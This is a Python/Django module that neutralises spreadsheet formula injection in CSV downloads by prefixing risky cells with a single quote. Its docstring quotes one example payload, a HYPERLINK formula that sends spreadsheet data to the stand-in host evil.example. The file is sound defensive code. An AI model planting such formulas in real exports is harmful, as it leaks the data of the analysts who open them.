"""CSV downloads that a spreadsheet opens as data, never as formulas (OWASP "CSV injection").

A template or campaign name such as `=HYPERLINK("http://evil.example/?leak="&A1,"click")` would be
a live formula in the analyst's spreadsheet. Every CSV the project writes goes through
`csv_response`, which writes each text cell through `csv_cell`.
"""

import csv
from collections.abc import Iterable
from decimal import Decimal

from django.http import HttpResponse

# What makes a spreadsheet read a cell as a formula (OWASP's list): =, +, -, @, tab, carriage return.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value):
    """The cell as it is written: text starting with a formula trigger gets a leading single quote.

    Numbers (int, float, Decimal) are the project's own figures and stay numbers, a negative one
    included; so a figure must be passed as a number, not as formatted text.
    """
    if value is None or isinstance(value, bool | int | float | Decimal):
        return value
    text = str(value)  # dates and the like are written as their text: checked like any text
    return "'" + text if text.startswith(FORMULA_TRIGGERS) else text


def csv_response(filename: str, header: list[str], rows: Iterable[Iterable]) -> HttpResponse:
    """A text/csv attachment named `filename`: the header, then the rows, every cell through csv_cell."""
    response = HttpResponse(content_type="text/csv")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    writer = csv.writer(response)
    writer.writerow([csv_cell(cell) for cell in header])
    writer.writerows([csv_cell(cell) for cell in row] for row in rows)
    return response
